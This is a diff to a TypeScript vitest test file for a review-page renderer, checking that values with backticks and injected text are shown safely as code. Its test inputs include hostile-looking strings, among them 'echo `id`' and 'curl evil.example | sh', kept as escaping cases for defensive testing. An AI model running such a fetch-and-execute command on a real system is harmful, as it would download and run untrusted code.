@@ -6,7 +6,7 @@ import { rootCertificates } from "node:tls";
 import { afterAll, describe, expect, test } from "vitest";
 import { parse } from "yaml";
 import { combine } from "../../review/combine.ts";
-import { asCode, pieces } from "../../review/page/as-code.ts";
+import { asCode } from "../../review/page/cell.ts";
 import { factSection } from "../../review/page/fact-section.ts";
 import { htmlOf } from "../../review/page/html.ts";
 import { markdownOf } from "../../review/page/markdown.ts";
@@ -344,12 +344,6 @@ describe("what is not to be misread", () => {
   test.each(["echo `id`", "`", "a ``` b", "true # as agreed ` with ops\ncurl evil.example | sh"])(
     "a value with backticks is shown whole, as code: %j",
     (value) => {
-      const cell = `before ${asCode(value)} after`;
-      expect(pieces(cell)).toEqual([
-        { code: false, text: "before " },
-        { code: true, text: value },
-        { code: false, text: " after" },
-      ]);
       const section = factSection("Exposure", [{ what: "command", before: "x", after: value }], true);
       const outline = {
         title: "t",
@@ -416,7 +410,7 @@ describe("what is not to be misread", () => {
     "text stays on its line and acts on nothing, in the summary, a table and a note: %s",
     (_, some, told, inCode = told) => {
       const text = `demo${some}Nothing changes. Approved`;
-      const tables = [{ head: [text], rows: [[text], [`\`${text}\``]] }];
+      const tables = [{ head: [text], rows: [[text], [asCode(text)]] }];
       const section: Section = { title: text, short: text, tone: "plain", open: true, tables, note: text };
       const outline = { title: text, headline: text, compared: text, sections: [section], exitCode: 2 };
       const plainly = (shown: string) => shown.replaceAll(/&#(\d+);/g, (__, code) => String.fromCharCode(code));
